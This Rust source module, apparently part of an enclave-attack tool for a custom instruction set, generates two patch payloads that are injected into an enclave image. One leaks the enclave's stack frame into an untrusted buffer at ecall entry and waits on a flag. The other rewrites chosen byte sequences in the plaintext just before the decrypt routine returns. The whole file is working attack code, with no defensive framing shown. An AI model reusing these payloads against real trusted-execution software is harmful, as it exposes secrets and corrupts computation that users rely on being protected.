//! The two concrete payloads: stack leak at ecall entry and plaintext
//! substitution just before the decrypt routine returns.

use alloc::vec::Vec;

use super::patch::{PatchPayload, PayloadBuilder};
use crate::format::abi::{FRAME_REG, FRAME_SIZE, MAX_ARGS};
use crate::format::ecall::decode_signatures;
use crate::format::{locate_ecall_table, ArgKind, DiscoveryError, EnclaveImage, Instruction, Opcode, INSN_LEN};

pub const MARKER: [u8; 4] = *b"MALW";

/// Registers the payloads use; saved below the frame and restored before BACK.
const WORK_REGS: [u8; 5] = [8, 9, 10, 11, 12];
/// Register save area, relative to the frame register.
const SAVE_AREA: i32 = -20;
/// Data scratch below the save area: `[-64, -20)`.
const SCRATCH: i32 = -64;
pub const SCRATCH_LEN: u32 = 44;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct LeakPatchSpec {
    pub ecall_index: u16,
    pub stack_bytes: u16,
    pub marker: [u8; 4],
    pub flag_offset_in_outbuf: u16,
}

impl LeakPatchSpec {
    pub fn new(ecall_index: u16, stack_bytes: u16, flag_offset_in_outbuf: u16) -> Result<Self, PayloadError> {
        if stack_bytes as u32 > FRAME_SIZE {
            return Err(PayloadError::StackBytesTooLarge(stack_bytes));
        }
        if (flag_offset_in_outbuf as u32) < 4 + stack_bytes as u32 {
            return Err(PayloadError::FlagOverlapsLeak(flag_offset_in_outbuf));
        }
        Ok(LeakPatchSpec {
            ecall_index,
            stack_bytes,
            marker: MARKER,
            flag_offset_in_outbuf,
        })
    }

    /// Bytes of the out-buffer the payload touches.
    pub fn footprint(&self) -> u32 {
        self.flag_offset_in_outbuf as u32 + 1
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TamperPlacement {
    AfterDecrypt,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TamperPatchSpec {
    pub ecall_index: u16,
    pub needle: Vec<u8>,
    pub replacement: Vec<u8>,
    pub placement: TamperPlacement,
    /// Bytes of the plaintext buffer to scan.
    pub buffer_len: u32,
}

impl TamperPatchSpec {
    pub fn new(ecall_index: u16, needle: &[u8], replacement: &[u8], buffer_len: u32) -> Result<Self, PayloadError> {
        if needle.len() != replacement.len() {
            return Err(PayloadError::LengthMismatch {
                needle: needle.len(),
                replacement: replacement.len(),
            });
        }
        if needle.is_empty() || needle.len() as u32 > SCRATCH_LEN {
            return Err(PayloadError::BadNeedle(needle.len()));
        }
        Ok(TamperPatchSpec {
            ecall_index,
            needle: needle.to_vec(),
            replacement: replacement.to_vec(),
            placement: TamperPlacement::AfterDecrypt,
            buffer_len,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PayloadError {
    #[error(transparent)]
    Discovery(#[from] DiscoveryError),
    #[error("ecall index {index} out of range ({count} ecalls)")]
    BadEcallIndex { index: u16, count: u16 },
    #[error("ecall has no pointer argument that could reach untrusted memory")]
    NoUntrustedPointerArg,
    #[error("needle of {needle} bytes is longer than the {buffer}-byte buffer")]
    NeedleLongerThanBuffer { needle: usize, buffer: u32 },
    #[error("needle and replacement differ in length ({needle} vs {replacement})")]
    LengthMismatch { needle: usize, replacement: usize },
    #[error("needle length {0} outside 1..=44")]
    BadNeedle(usize),
    #[error("cannot leak {0} bytes from a 64-byte frame")]
    StackBytesTooLarge(u16),
    #[error("flag offset {0} overlaps the marker and leaked bytes")]
    FlagOverlapsLeak(u16),
    #[error("no final RET found in the ecall body at {0:#x}")]
    NoReturn(u32),
}

/// Developer-function offset and the argument slots that may hold pointers.
fn resolve(image: &EnclaveImage, index: u16) -> Result<(u32, Vec<usize>), PayloadError> {
    let found = locate_ecall_table(image)?;
    let function = *found.functions.get(index as usize).ok_or(PayloadError::BadEcallIndex {
        index,
        count: found.table.count,
    })?;
    let slots: Vec<usize> = match decode_signatures(image.meta()).and_then(|s| s.get(index as usize).cloned()) {
        Some(Some(kinds)) => kinds
            .iter()
            .enumerate()
            .filter(|(_, k)| **k == ArgKind::Ptr)
            .map(|(i, _)| i)
            .collect(),
        // Unknown signature: probe every slot at run time.
        _ => (0..MAX_ARGS).collect(),
    };
    if slots.is_empty() {
        return Err(PayloadError::NoUntrustedPointerArg);
    }
    Ok((function, slots))
}

fn rel(off: i32) -> u32 {
    off as u32
}

fn save_regs(b: &mut PayloadBuilder) {
    for (i, r) in WORK_REGS.iter().enumerate() {
        b.emit(Instruction::store(*r, FRAME_REG, rel(SAVE_AREA + 4 * i as i32)));
    }
}

fn restore_regs(b: &mut PayloadBuilder) {
    for (i, r) in WORK_REGS.iter().enumerate() {
        b.emit(Instruction::load(*r, FRAME_REG, rel(SAVE_AREA + 4 * i as i32)));
    }
}

/// Leaves the first argument that is a wholly untrusted `[ptr, ptr+len)` in r8,
/// or jumps to `none`. Slots are probed left to right.
fn find_out_pointer(b: &mut PayloadBuilder, slots: &[usize], len: u32, none: super::patch::Label) {
    let found = b.label();
    for &slot in slots {
        let next = b.label();
        b.emit(Instruction::load(8, FRAME_REG, 4 * slot as u32));
        b.emit(Instruction::is_out(9, 8, len));
        b.emit_to(Instruction::brz(9, 0), next);
        b.emit_to(Instruction::jmp(0), found);
        b.bind(next);
    }
    b.emit_to(Instruction::jmp(0), none);
    b.bind(found);
}

/// Builds the leak payload and returns it with its hook site (the first
/// instruction of the developer function).
///
/// At run time: find the out-buffer, write the marker and `stack_bytes` of the
/// frame after it, clear the flag byte and spin until the untrusted side sets
/// it, then restore registers, run the displaced instruction and go BACK.
pub fn make_leak_patch(image: &EnclaveImage, spec: &LeakPatchSpec) -> Result<(PatchPayload, u32), PayloadError> {
    let (hook_site, slots) = resolve(image, spec.ecall_index)?;
    let saved = Instruction::fetch(image.code(), hook_site).ok_or(PayloadError::NoReturn(hook_site))?;

    let mut b = PayloadBuilder::default();
    let done = b.label();
    save_regs(&mut b);
    find_out_pointer(&mut b, &slots, spec.footprint(), done);

    b.emit(Instruction::loadi(9, u32::from_le_bytes(spec.marker)));
    b.emit(Instruction::store(9, 8, 0));
    b.emit(Instruction::addi(10, 8, 4));
    b.emit(Instruction::loadi(11, spec.stack_bytes as u32));
    b.emit(Instruction::copy(FRAME_REG, 11, 10));

    // Only word stores exist: clear the flag with a one-byte copy of a zero word.
    b.emit(Instruction::loadi(9, 0));
    b.emit(Instruction::store(9, FRAME_REG, rel(SCRATCH)));
    b.emit(Instruction::addi(10, 8, spec.flag_offset_in_outbuf as u32));
    b.emit(Instruction::addi(12, FRAME_REG, rel(SCRATCH)));
    b.emit(Instruction::loadi(11, 1));
    b.emit(Instruction::copy(12, 11, 10));

    let spin = b.label();
    b.bind(spin);
    b.emit(Instruction::cmpb(9, 10, 0));
    b.emit_to(Instruction::brz(9, 0), done);
    b.emit_to(Instruction::jmp(0), spin);

    b.bind(done);
    restore_regs(&mut b);
    b.emit(saved);
    Ok((b.finish(), hook_site))
}

/// Offset of the instruction before the function's final RET. The body is
/// swept linearly; a RET or HALT counts as final once no earlier branch
/// targets anything past it.
pub fn final_return_hook(image: &EnclaveImage, function: u32) -> Result<u32, PayloadError> {
    let code = image.code();
    let mut reach = function;
    let mut pc = function;
    while let Some(insn) = Instruction::fetch(code, pc) {
        match insn.op() {
            Some(Opcode::Jmp | Opcode::Brz) => reach = reach.max(insn.imm),
            Some(Opcode::Ret | Opcode::Halt) if pc >= reach => {
                return if pc > function {
                    Ok(pc - INSN_LEN as u32)
                } else {
                    Err(PayloadError::NoReturn(function))
                };
            }
            _ => {}
        }
        pc += INSN_LEN as u32;
    }
    Err(PayloadError::NoReturn(function))
}

/// Builds the substitution payload, hooked on the instruction before the
/// ecall's final RET.
///
/// Scans the first untrusted pointer argument's `buffer_len` bytes for the
/// needle and overwrites every occurrence in place.
pub fn make_tamper_patch(image: &EnclaveImage, spec: &TamperPatchSpec) -> Result<(PatchPayload, u32), PayloadError> {
    let (function, slots) = resolve(image, spec.ecall_index)?;
    let n = spec.needle.len();
    if n as u32 > spec.buffer_len {
        return Err(PayloadError::NeedleLongerThanBuffer {
            needle: n,
            buffer: spec.buffer_len,
        });
    }
    let hook_site = final_return_hook(image, function)?;
    let saved = Instruction::fetch(image.code(), hook_site).ok_or(PayloadError::NoReturn(function))?;

    let mut b = PayloadBuilder::default();
    let done = b.label();
    save_regs(&mut b);
    find_out_pointer(&mut b, &slots, spec.buffer_len, done);

    // Stage the replacement in scratch, word by word.
    let mut staged = spec.replacement.clone();
    staged.resize(n.div_ceil(4) * 4, 0);
    for (i, word) in staged.chunks(4).enumerate() {
        b.emit(Instruction::loadi(9, u32::from_le_bytes(word.try_into().unwrap())));
        b.emit(Instruction::store(9, FRAME_REG, rel(SCRATCH + 4 * i as i32)));
    }

    // r8 = candidate position, r11 = positions left.
    b.emit(Instruction::loadi(11, spec.buffer_len - n as u32 + 1));
    let scan = b.label();
    let advance = b.label();
    b.bind(scan);
    for (j, byte) in spec.needle.iter().enumerate() {
        let at = if j == 0 {
            8
        } else {
            b.emit(Instruction::addi(10, 8, j as u32));
            10
        };
        b.emit(Instruction::cmpb(9, at, *byte));
        b.emit_to(Instruction::brz(9, 0), advance);
    }
    b.emit(Instruction::addi(12, FRAME_REG, rel(SCRATCH)));
    b.emit(Instruction::loadi(10, n as u32));
    b.emit(Instruction::copy(12, 10, 8));
    b.bind(advance);
    b.emit(Instruction::addi(8, 8, 1));
    b.emit(Instruction::addi(11, 11, u32::MAX));
    b.emit_to(Instruction::brz(11, 0), done);
    b.emit_to(Instruction::jmp(0), scan);

    b.bind(done);
    restore_regs(&mut b);
    b.emit(saved);
    Ok((b.finish(), hook_site))
}
